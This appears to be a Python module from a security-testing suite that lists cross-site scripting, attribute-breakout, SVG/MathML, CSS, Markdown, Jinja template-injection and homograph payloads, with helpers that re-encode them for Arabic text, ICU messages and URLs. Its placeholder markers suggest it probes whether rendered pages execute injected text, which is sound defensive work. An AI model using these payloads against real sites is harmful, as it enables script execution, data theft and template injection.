"""Texts that run, leave, or become markup, should anything take them for more than text: a table by what they attack.

Each that could become an element, attribute or script holds `OWN`, or in Arabic letters `OWN_ARABIC`, so that a page can
be asked whether it became one. What no text may hold is in `refusals`.
"""

from __future__ import annotations

import re

from hostile.formats import FORMATS
from hostile.signs import AWAY, OWN, OWN_ARABIC, RUN

IMAGE = f"<img/{OWN}=x/src=x/onerror={RUN}>"

HTML = [
    IMAGE,
    f"</title>{IMAGE}",
    f"'>{IMAGE}",
    f"-->{IMAGE}",
    f"--!>{IMAGE}",
    f"]]>{IMAGE}",
    f"?>{IMAGE}",
    f"</noscript>{IMAGE}",
    f"</textarea></style></template><img/{OWN}=x/src={AWAY}>",
    f"</select></option>{IMAGE}",
    f"</a></li></ul></p></div>{IMAGE}",
    f"</article></main></body></html>{IMAGE}",
    f"</iframe></noembed></noframes></xmp>{IMAGE}",
    f"<iframe/{OWN}=x/srcdoc=<script>parent.{RUN}</script>>",
    f"<iframe/{OWN}=x/src=javascript:parent.{RUN}>",
    f"<a/{OWN}=x/href=javascript:{RUN}>x</a>",
    f"<a/{OWN}=x/href=data:text/html,<script>{RUN}</script>>x</a>",
    f"<form/{OWN}=x/action={AWAY}><button/name={OWN}>x</button></form>",
    f"<input/{OWN}=x/autofocus/onfocus={RUN}>",
    f"<button/{OWN}=x/formaction=javascript:{RUN}>x</button>",
    f"<base/{OWN}=x/href={AWAY}>",
    f"<meta/{OWN}=x/http-equiv=refresh/content=0;url={AWAY}>",
    f"<meta/{OWN}=x/http-equiv=Content-Security-Policy/content=x>",
    f"<link/{OWN}=x/rel=stylesheet/href={AWAY}>",
    f"<link/{OWN}=x/rel=dns-prefetch/href={AWAY}>",
    f"<object/{OWN}=x/data={AWAY}></object>",
    f"<embed/{OWN}=x/src={AWAY}>",
    f"<video/{OWN}=x/poster={AWAY}><source/src=x/onerror={RUN}></video>",
    f"<audio/{OWN}=x/src=x/onerror={RUN}>",
    f"<picture><source/{OWN}=x/srcset={AWAY}></picture>",
    f"<details/{OWN}=x/open/ontoggle={RUN}>",
    f"<dialog/{OWN}=x/open>{OWN}</dialog>",
    f"<marquee/{OWN}=x/onstart={RUN}>x</marquee>",
    f"<template/{OWN}=x/shadowrootmode=open>{IMAGE}</template>",
    f"<x-{OWN}/id={OWN}/tabindex=1/autofocus/onfocus={RUN}>",
    f"<plaintext/{OWN}=x>",
    f"<textarea/{OWN}=x>",
    f"<!--{OWN}",
    f"<![CDATA[{IMAGE}]]>",
    f"<?{OWN}?>",
    f"&lt;img/{OWN}=x/src=x/onerror={RUN}&gt;",
    f"&#60;img/{OWN}=x/src=x/onerror={RUN}&#62;",
    f"&#x3c;img/{OWN}=x/src=x/onerror={RUN}&#x3e;",
    f"&amp;lt;img/{OWN}=x&amp;gt;",
    f"&ltimg/{OWN}=x/src=x/onerror={RUN}&gt",
    f"%3Cimg/{OWN}=x/src=x/onerror={RUN}%3E",
    f"＜img/{OWN}=x/src=x/onerror={RUN}＞",
    f"\\u003cimg/{OWN}=x/src=x/onerror={RUN}\\u003e",
    f"\\x3cimg/{OWN}=x/src=x/onerror={RUN}\\x3e",
    f"<IMG/{OWN}=x/SRC=x/ONERROR={RUN}>",
    f"<<img/{OWN}=x/src=x/onerror={RUN}//>",
    f"<img/{OWN}=x/src=x/onerror={RUN}<b>",
]
"""Elements, ends of what a text may stand in, and characters written otherwise."""
ATTRIBUTES = [
    f'"onmouseover="{RUN}"{OWN}="',
    f"'onmouseover='{RUN}'{OWN}='",
    f'"autofocus/onfocus="{RUN}"{OWN}="',
    f"`onmouseover=`{RUN}`",
    f'"/onpointerover="{RUN}"/{OWN}="',
    f'">{IMAGE}<p/title="',
    f"&quot;onmouseover=&quot;{RUN}&quot;{OWN}=&quot;",
    f"&#34;onmouseover=&#34;{RUN}&#34;{OWN}=&#34;",
    f"&#39;onmouseover=&#39;{RUN}&#39;{OWN}=&#39;",
    f'"srcdoc="<script>{RUN}</script>"{OWN}="',
    f'"style="background:url({AWAY})"{OWN}="',
    f'"id="{OWN}"class="{OWN}',
    f"x=y/onclick={RUN}/{OWN}=x",
    f'\\"onmouseover=\\"{RUN}\\"{OWN}=\\"',
]
"""Ends of attributes."""
SCRIPT = [
    f"<script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"<script/src={AWAY}></script>",
    f"<script/type=module>import/**/'{AWAY}'</script>",
    f"<SCRIPT/{OWN}=x>{RUN}//",
    f"<!--<script>{RUN}",
    f"</script/x>{IMAGE}",
    f"';{RUN};'",
    f'";{RUN};"',
    f"`;{RUN};`",
    f"${{{RUN}}}",
    f"\\';{RUN};//",
    f"*/{RUN}/*",
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"javascript://%0a{RUN}",
    f"data:text/html;base64,{OWN}",
    f"vbscript:{OWN}",
    f"//{OWN}.invalid/x.js",
    f"constructor.constructor('{RUN}')()",
    f"__proto__[{OWN}]=x",
    f"<script>/*{OWN}*/{RUN}</script >",
]
"""Scripts, and ends of what stands in one."""
SVG = [
    f'"><svg/{OWN}=x/onload={RUN}>',
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><script/href={AWAY} /></svg>",
    f"<svg><style>{IMAGE}",
    f"<svg><a/{OWN}=x/xlink:href=javascript:{RUN}><text>x</text></a></svg>",
    f"<svg><set/{OWN}=x/attributeName=onmouseover/to={RUN} /></svg>",
    f"<svg><animate/{OWN}=x/onbegin={RUN}/attributeName=x/dur=1s></svg>",
    f"<svg><foreignObject/{OWN}=x><body>{IMAGE}</body></foreignObject></svg>",
    f"<svg><image/{OWN}=x/href={AWAY} /></svg>",
    f"<svg><use/{OWN}=x/href=data:image/svg+xml,x#x /></svg>",
    f"<svg><feImage/{OWN}=x/href={AWAY} /></svg>",
    f"</text></svg><image/{OWN}=x/href={AWAY} />",
    f"</desc></title><script/{OWN}=x>{RUN}</script>",
    f"<math><mtext><mglyph><style><!--</style>{IMAGE}",
    f"<math><annotation-xml/encoding=text/html>{IMAGE}</annotation-xml></math>",
    f"<math/{OWN}=x/href=javascript:{RUN}>x</math>",
]
"""Drawings and formulas, whose parsers have rules of their own."""
CSS = [
    f"</style>{IMAGE}",
    f"<style>@import'{AWAY}{OWN}';</style>",
    f"<style>*{{background:url({AWAY}{OWN})}}</style>",
    f"x;background:url({AWAY});{OWN}:x",
    f"}}*{{--{OWN}:url({AWAY})}}",
    f"expression({RUN})",
    f"*/}}@import'{AWAY}{OWN}';/*",
    f"<p/{OWN}=x/style=position:fixed;inset:0>{OWN}</p>",
    f"\\3c/style>{OWN}",
    f"@font-face{{font-family:{OWN};src:url({AWAY})}}",
]
"""Styles, and ends of what stands in one."""
MARKDOWN = [
    f"[{OWN}](javascript:{RUN})",
    f"[{OWN}](//{OWN}.invalid/)",
    f"![{OWN}](//{OWN}.invalid/x.png)",
    f"![{OWN}][{OWN}]",
    f"[{OWN}]:javascript:{RUN}",
    f"<javascript:{RUN}>",
    f"<https://{OWN}.invalid/>",
    f"<{OWN}@{OWN}.invalid>",
    f"[^{OWN}]",
    f"*[{OWN}]:{OWN}",
    f"```{OWN}",
    f"~~~{OWN}",
    f"``{OWN}``",
    f"|{OWN}|{OWN}|",
    f"__{OWN}__",
    f"***{OWN}***",
    f"_{OWN}_",
    f"==={OWN}===",
    f"~~{OWN}~~",
    f"# {OWN}",
    f"###### {OWN} ######",
    f"> {OWN}",
    f"- {OWN}",
    f"1. {OWN}",
    f"--- {OWN}",
    f"!!! {OWN}",
    f"\\<{OWN}\\>",
    f"&copy{OWN};",
    f":{OWN}:",
    f"--8<--'{OWN}'",
    f"[TOC]{OWN}",
    f"@{OWN}/team",
    f"{OWN}#1",
    f"</p>\\{IMAGE}",
]
"""What means something to some Markdown."""
LISTS = [
    f"{{:onclick={RUN}}}",
    f"{{:#{OWN}.{OWN}}}",
    f"{{#{OWN}}}",
    f"{{.{OWN}}}",
    f"`x`{{:{OWN}=x}}",
    f"**x**{{:onclick={RUN}}}",
    f"{{:style=background:url({AWAY})}}",
    f"{{: {OWN}='x' }}",
    f"{{: href=javascript:{RUN} }}",
    f"x {{: #{OWN} }} {{: .{OWN} }}",
    f"}} {{: #{OWN}",
    f"*x*{{.{OWN}}}",
]
"""Attribute lists of Python-Markdown."""
JINJA = [
    f"{{{{{OWN}}}}}",
    f"{{%set({OWN})%}}",
    f"{{#{OWN}#}}",
    f"{{{{'{OWN}'.__class__.__mro__}}}}",
    f"{{{{config.{OWN}}}}}",
    f"{{{{cycler.__init__.__globals__.{OWN}}}}}",
    f"{{%include'/etc/{OWN}'%}}",
    f"{{%for {OWN} in [x]%}}x{{%endfor%}}",
    f"}}}}{{{{{OWN}}}}}{{{{",
    f"%}}{{%raw%}}{OWN}",
    f"{{{{-{OWN}|safe-}}}}",
    f"{{%endblock%}}{{{{super()}}}}{OWN}",
    f"#}}{OWN}{{#",
    f"<%={OWN}%>",
    f"#{{{OWN}}}",
]
"""What means something to Jinja and its kin."""
ICU = [
    f"{{{OWN}}}",
    f"{{{OWN}, plural, other {{#}}}}",
    f"{{{OWN}, select, x {{y}} other {{z}}}}",
    f"{{{OWN}, date, full}}",
    f"{{0}}{{1}}{OWN}",
    f"{{{OWN}",
    f"}}{OWN}{{",
    f"'{{{OWN}}}'",
    f"''{OWN}''",
    f"#{OWN}",
    f"%({OWN})s%s%n",
    f"<{OWN}>{{{OWN}}}</{OWN}>",
]
"""What means something to messages, here shown as it stands."""
HOMOGRAPHS = [
    f"/ｈｔｔｐｓ://{OWN}.invalid/",
    f"https:∕∕{OWN}.invalid∕",
    f"javascript：{RUN}",
    f"{OWN}․html",
    f"{OWN}⁄..⁄..⁄x",
    f"/ſcript>{RUN}",
    f"<ſcript>{RUN}</ſcript>",
    f"≺script≻{OWN}",
    f"﹤{OWN}﹥",
    f"{OWN}。html",
    f"⟨{OWN}⟩",
]
"""Letters that look like others, or become others when they are folded."""

BY_KIND: dict[str, list[str]] = {
    "html": HTML,
    "attributes": ATTRIBUTES,
    "script": SCRIPT,
    "svg": SVG,
    "css": CSS,
    "markdown": MARKDOWN,
    "attribute lists": LISTS,
    "jinja": JINJA,
    "icu": ICU,
    "homographs": HOMOGRAPHS,
    **FORMATS,
}
"""Kind to the payloads that a text may hold."""
PAYLOADS = [payload for payloads in BY_KIND.values() for payload in payloads]
KIND_OF = {payload: kind for kind, payloads in BY_KIND.items() for payload in payloads}

FOREIGN = re.compile(r"(?P<tag></?)?[^\W\d_]{2,}")
NAMED = re.compile(r"&([a-zA-Z]+);?")
BY_NUMBER = {"lt": "&#60;", "gt": "&#62;", "quot": "&#34;", "amp": "&#38;"}
BESIDE = re.compile(r"(?<=[\u0620-\u064a])(?=\s?[,;?\"])|(?<=[,;?\"])(?=\s?[\u0620-\u064a])")
"""Between a Latin mark and an Arabic letter, which must not stand side by side."""


def arabic(payload: str) -> str:
    """The payload as an Arabic text may hold it: the same signs, elements of one letter, and all else in Arabic.

    Words of other letters are refused in most Arabic texts.
    """
    numbered = NAMED.sub(lambda match: BY_NUMBER.get(match[1], match[0]), payload)
    written = FOREIGN.sub(lambda match: f"{match['tag']}b" if match["tag"] else OWN_ARABIC, numbered)
    return BESIDE.sub("/", written)


def as_message(text: str) -> str:
    """A text as an editor writes it so that it is shown as it stands: quoted for ICU, and for the inline markup."""
    escaped = "".join(f"\\{character}" if character in "[]*\\" else character for character in text)
    doubled = escaped.replace("'", "''")
    return re.sub(r"[{}](?:[{}]|'')*", r"'\g<0>'", doubled)


def as_address(payload: str) -> str:
    """What of a payload may stand in an address; what may not is written by its number, as browsers write it."""
    return re.sub(r"[\s\"<>\\^`{|}]", lambda match: "".join(f"%{byte:02X}" for byte in match[0].encode()), payload)
